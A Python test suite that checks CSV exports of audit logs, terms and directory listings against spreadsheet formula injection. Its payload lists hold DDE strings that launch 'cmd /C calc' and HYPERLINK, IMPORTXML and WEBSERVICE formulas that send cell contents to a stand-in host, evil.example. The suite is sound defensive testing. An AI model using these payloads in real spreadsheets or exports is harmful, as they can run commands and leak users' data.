"""No export as a table has a cell that a spreadsheet runs, nor a control character, whatever stands in a name."""

import csv
import io
import random
import unicodedata

import pytest

from api.directories.transfer.formats import from_csv, to_csv
from api.routers.audit.bodies import table_line
from api.schemas.terms import read_csv, write_csv
from wenyuan.db.texts.terms import Term
from wenyuan.people.listing import ListedGroup, Listing
from wenyuan.text import one_line

_STARTS = [
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "＝",
    "＋",
    "－",
    "＠",
    "'=",
    "''=",
    '"=',
    "\ufeff=",
    "\u200b=",
    "\x1b[31m=",
]
_BODIES = [
    "1+1",
    "cmd|'/C calc'!A0",
    'HYPERLINK("http://evil.example?x="&A1,"点击")',
    'IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    'WEBSERVICE("http://evil.example")',
    'DDE("cmd";"/C calc";"x")',
    "SUM(A1:A9)*cmd|' /C calc'!A0",
    "2+5+cmd|'/C calc'!A0",
    "年假,=1+1",
    'a"\r\n=1+1,"',
    "\x00\x07\x1b]0;x\x07",
]
_RUNS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def payloads(count: int) -> list[str]:
    r = random.Random(20)
    return [f"{r.choice(_STARTS)}{r.choice(_BODIES)}{r.choice(['', str(r.randrange(99)), '。'])}" for _ in range(count)]


def cells(table: str) -> list[str]:
    rows = list(csv.reader(io.StringIO(table.removeprefix("\ufeff"), newline=""), strict=True))
    return [cell for row in rows for cell in row]


def is_safe(cell: str) -> bool:
    raw = any(unicodedata.category(char) == "Cc" and char not in "\t\r\n" for char in cell)
    return not raw and not cell.startswith(_RUNS)


PAYLOADS = payloads(2000)


def test_lines_of_the_audit_log_and_of_reviews() -> None:
    for payload in PAYLOADS:
        found = cells(table_line((1, payload, "x")))
        assert len(found) == 3
        assert all(map(is_safe, found)), payload


def test_terms_run_nothing_and_are_read_back() -> None:
    shown = {one_line(payload).replace("|", "/") for payload in PAYLOADS}
    names = sorted(one for one in shown if any(map(str.isalnum, one)))
    terms = [Term(name=name, synonyms=(f"={place}",), language="zh") for place, name in enumerate(names)]
    table = write_csv(terms)
    assert all(map(is_safe, cells(table)))
    assert [one.name for one in read_csv(table)] == names


def test_the_directory_runs_nothing_and_is_read_back() -> None:
    names = sorted({one_line(payload) for payload in PAYLOADS})
    table = to_csv(Listing(groups=tuple(ListedGroup(name=name) for name in names)))
    assert all(map(is_safe, cells(table)))
    assert [one.name for _, one in from_csv(table).records] == names


@pytest.mark.parametrize("cell", ["-5", "年假", "a=b", "", "'quoted"])
def test_other_cells_stay_what_they_say(cell: str) -> None:
    [found] = cells(table_line((cell,)))
    assert found in (cell, f"'{cell}")
